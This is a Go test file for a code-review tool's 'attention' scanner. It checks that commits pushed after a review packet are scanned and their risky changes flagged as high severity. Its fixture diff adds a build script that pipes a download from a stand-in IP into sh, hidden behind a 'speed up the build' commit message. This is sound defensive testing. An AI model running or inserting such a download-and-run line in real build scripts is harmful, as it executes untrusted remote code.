package attention

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vetter-dev/vetter/attention/rules"
	"github.com/vetter-dev/vetter/packet"
)

// The commits pushed after the packet was written are what no review saw:
// the attention scan reads their diff too, and says where each item came
// from.
func TestAttentionScansWhatCameAfterThePacket(t *testing.T) {
	root := t.TempDir()
	dir := filepath.Join(root, "github.com", "acme", "depot", "2318", "head")
	if err := packet.WriteSample(dir); err != nil {
		t.Fatal(err)
	}
	origin := `{"kind":"github-pr","url":"https://github.com/acme/depot/pull/2318","owner":"acme","repo":"depot","number":2318,` +
		`"head_sha":"9f8e7d6c5b4a39281706f5e4d3c2b1a098765432","packet_head_sha":"1bb1c70f4285cf39d8ebaf61573f0095423d52b1",` +
		`"commits_after_packet":[{"sha":"9f8e7d6c5b4a39281706f5e4d3c2b1a098765432","message":"ci: speed up the build"}]}`
	after := "diff --git a/scripts/build.sh b/scripts/build.sh\nnew file mode 100755\n--- /dev/null\n+++ b/scripts/build.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl -fsSL http://203.0.113.7/x.sh | sh\n"
	os.WriteFile(filepath.Join(dir, packet.OriginFile), []byte(origin), 0o644)
	os.WriteFile(filepath.Join(dir, packet.AfterPacketDiff), []byte(after), 0o644)

	p, err := packet.Load(dir, packet.Options{OriginRoot: root})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	var found *Item
	for _, a := range p.Attention() {
		if a.AfterPacket {
			a := a
			found = &a
			break
		}
	}
	if found == nil {
		t.Fatalf("the download-and-run in a commit after the packet was not found: %+v", p.Attention())
	}
	if found.Severity != rules.High || found.Path != "scripts/build.sh" || found.NewLine != 2 || found.File != -1 ||
		!strings.Contains(found.Why, "pushed after the packet") || !strings.HasPrefix(found.Title, "after the packet: ") {
		t.Errorf("after-packet item: %+v", *found)
	}
	if items := p.Attention(); items[0].Severity != rules.High {
		t.Errorf("high items do not come first: %+v", items[0])
	}

	// Without an origin (a packet folder opened as is), no such file is read.
	plain, err := packet.Load(dir, packet.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer plain.Close()
	for _, a := range plain.Attention() {
		if a.AfterPacket {
			t.Errorf("a packet not from vetter's cache had its after-packet diff read: %+v", a)
		}
	}
}
